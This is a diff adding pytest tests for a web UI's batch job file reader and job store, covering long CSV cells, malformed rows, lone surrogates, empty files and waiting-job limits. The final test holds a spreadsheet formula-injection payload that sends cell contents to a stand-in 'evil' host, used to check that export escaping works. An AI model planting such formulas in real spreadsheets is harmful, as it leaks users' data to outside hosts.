@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from webui.batch.files import BatchFileError
+from webui.jobs.errors import JobLimitError
 from webui.jobs.files import InputReader, csv_header, csv_line, jsonl_line
 from webui.jobs.store import JobStore, RowOutcome
 from webui.store import db
@@ -153,3 +154,51 @@ def test_result_lines_carry_the_users_columns_and_csv_cells_cannot_run_as_formul
     cells = csv_line("classify", ["id", "label", "text"], ["投诉"], 3, source, {"label": "投诉",
                      "scores": {"投诉": 1.0}}, None)
     assert cells == "A1,金标准,'=1+1,3,投诉,1.0,\r\n"
+
+
+def test_a_csv_cell_longer_than_csvs_default_limit_is_one_row_not_a_refused_file(tmp_path: Path):
+    long = "长" * 200_000
+    path = write(tmp_path / "t.csv", f"id,text\n1,{long}\n2,短文本\n")
+    rows = list(InputReader(path, path.name))
+    assert [len(row.text) for row in rows] == [200_000, 3]  # the runner fails the long one on its own
+
+
+def test_a_row_with_more_cells_than_the_header_fails_instead_of_losing_its_tail(tmp_path: Path):
+    path = write(tmp_path / "t.csv", "id,text\n1,小米发布手机,售价3999元\n2,正常一行\n")
+    rows = list(InputReader(path, path.name))
+    assert "3 cells but the header names 2" in rows[0].problem and "double quotes" in rows[0].problem
+    assert not rows[1].problem
+
+
+def test_a_jsonl_line_with_a_lone_surrogate_fails_alone_and_the_job_is_stored(tmp_path: Path):
+    store = make_store(tmp_path)
+    path = write(tmp_path / "t.jsonl", '{"text": "好"}\n{"text": "ab\\ud800cd", "note": "x"}\n')
+    rows = list(InputReader(path, path.name))
+    assert not rows[0].problem and "lone surrogate" in rows[1].problem
+    assert rows[1].source == {"text": "ab\ufffd\ufffd\ufffdcd", "note": "x"}
+    job = add_job(store, path)
+    assert job.rows_total == 2
+
+
+def test_a_file_in_which_no_row_has_a_text_leaves_no_job(tmp_path: Path):
+    store = make_store(tmp_path)
+    path = write(tmp_path / "t.jsonl", '{"title": "x", "body": "hello"}\n{"title": "y"}\n')
+    with pytest.raises(BatchFileError, match="none of the file's 2 rows has a text in `text`"):
+        add_job(store, path)
+    assert sqlite3.connect(store.path).execute("SELECT count(*) FROM job_rows").fetchone()[0] == 0
+
+
+def test_the_waiting_jobs_are_counted_inside_the_transaction_that_adds_one(tmp_path: Path):
+    store = make_store(tmp_path)
+    path = write(tmp_path / "t.txt", "一\n二\n")
+    reader = InputReader(path, path.name)
+    store.create("j1", "classify", ["投诉", "咨询"], {}, path.name, 4, reader, 100, max_waiting=1)
+    with pytest.raises(JobLimitError, match="1 jobs are already waiting, the limit is 1"):
+        store.create("j2", "classify", ["投诉", "咨询"], {}, path.name, 4, InputReader(path, path.name), 100,
+                     max_waiting=1)
+    assert [job.id for job in store.list_jobs()] == ["j1"]
+
+
+def test_csv_header_cells_cannot_run_as_formulas_either():
+    header = csv_header("extract", ["text", '=HYPERLINK("http://evil/?"&A2)'], ["@SUM(1)"])
+    assert header == ["text", '\'=HYPERLINK("http://evil/?"&A2)', "row", "'@SUM(1)", "error"]
